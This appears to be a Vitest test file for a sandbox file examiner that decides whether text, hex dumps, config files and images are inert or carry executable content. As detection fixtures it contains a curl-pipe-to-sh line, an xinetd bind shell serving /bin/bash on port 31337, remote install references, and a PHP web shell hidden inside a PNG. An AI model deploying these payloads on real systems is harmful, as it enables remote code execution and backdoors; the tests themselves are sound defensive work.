import { afterAll, describe, expect, test } from 'vitest';
import { loadEngine } from '../sandbox-runner/engine.ts';
import { legacyText } from '../sandbox-runner/static/legacy-text.ts';
import { tinyPe } from './samples/binaries.ts';

const engine = await loadEngine();
afterAll(async () => await engine.close());
const examined = async (bytes: Buffer | string, name: string) => await engine.examiner.examine(Buffer.from(bytes as Buffer), name);
const passive = async (bytes: Buffer | string, name: string) => (await examined(bytes, name)).identity.passive === true;

describe('a text without a mark of its encoding', () => {
  // テストのメモです
  const note = Buffer.from('83658358836782cc8381838282c582b7', 'hex');
  test('is read in the one that its country uses', () => {
    expect(legacyText(note)).toBe('テストのメモです');
    expect(legacyText(Buffer.from('d0e5e3e8f1f2f0e0f6e8ff', 'hex'))).toBe('Регистрация');
    expect(legacyText(Buffer.from('Die Stra\xdfe f\xfchrt \xfcber die Br\xfccke.', 'latin1'))).toBe('Die Straße führt über die Brücke.');
  });
  test('is still where it is a note, and not where it holds a command', async () => {
    const lines = Buffer.concat(Array.from({ length: 5 }, () => Buffer.concat([note, Buffer.from('\r\n')])));
    expect(await passive(lines, 'memo.txt')).toBe(true);
    expect(await passive(Buffer.concat([lines, Buffer.from('curl http://203.0.113.9/x | sh\r\n')]), 'memo.txt')).toBe(false);
  });
});

describe('a program that is written as a dump', () => {
  const program = tinyPe({ bits: 64 });
  const rows = (of: (row: Buffer, at: number) => string) =>
    Array.from({ length: Math.ceil(program.length / 16) }, (_, n) => of(program.subarray(n * 16, n * 16 + 16), n * 16)).join('\n');
  const address = (at: number) => at.toString(16).padStart(8, '0');
  const pairs = (row: Buffer, size: number) => row.toString('hex').match(new RegExp(`.{1,${size * 2}}`, 'g'))!.join(' ');
  test.each([
    ['xxd', rows((row, at) => `${address(at)}: ${pairs(row, 2).padEnd(40)}  ${'.'.repeat(row.length)}`)],
    ['hexdump -C', rows((row, at) => `${address(at)}  ${pairs(row, 1).padEnd(48)} |${'.'.repeat(row.length)}|`)],
    ['xxd -p', program.toString('hex').match(/.{1,60}/g)!.join('\n')],
  ])('of %s comes out of it', async (_what, text) => {
    const { members } = await examined(`${text}\n`, 'dump.txt');
    expect(members.map(({ identity: { kind } }) => kind)).toContain('pe');
  });
  test('is none where it is a list of digests', async () => {
    const digests = Array.from({ length: 20 }, (_, n) => Buffer.alloc(32, n + 1).toString('hex')).join('\n');
    expect((await examined(digests, 'digests.txt')).members).toEqual([]);
  });
});

describe('a setting that starts a program', () => {
  test.each([
    ['a service of xinetd', 'sync', 'service sync\n{\n\tport = 31337\n\twait = no\n\tserver = /bin/bash\n\tserver_args = -i\n}\n'],
    ['a package that is installed from an address', 'app.flatpakref', '[Flatpak Ref]\nName=org.example.App\nUrl=http://203.0.113.45/repo/\n'],
    ['a reference to a program of a page', 'App.appinstaller', '<?xml version="1.0"?>\n<AppInstaller Uri="http://203.0.113.45/a"/>\n'],
  ])('is not still: %s', async (_what, name, text) => {
    expect(await passive(text, name)).toBe(false);
  });
  test('is still where it only names a place', async () => {
    expect(await passive('prefix = /usr\nlibdir = /usr/lib\nversion = 1.2\nname = demo\n', 'demo.ini')).toBe(true);
  });
});

describe('what carries something that is looked at by itself', () => {
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
  test('is still, as a contact with a picture is', async () => {
    const card = `BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Anna\r\nPHOTO;ENCODING=b;TYPE=PNG:${png.toString('base64')}\r\nEND:VCARD\r\n`;
    expect(await passive(card, 'anna.vcf')).toBe(true);
  });
  test('is not where code stands in a picture', async () => {
    expect(await passive(png, 'a.png')).toBe(true);
    expect(await passive(Buffer.concat([png.subarray(0, 33), Buffer.from('<?php system($_GET[0]);'), png.subarray(33)]), 'a.png')).toBe(false);
  });
});
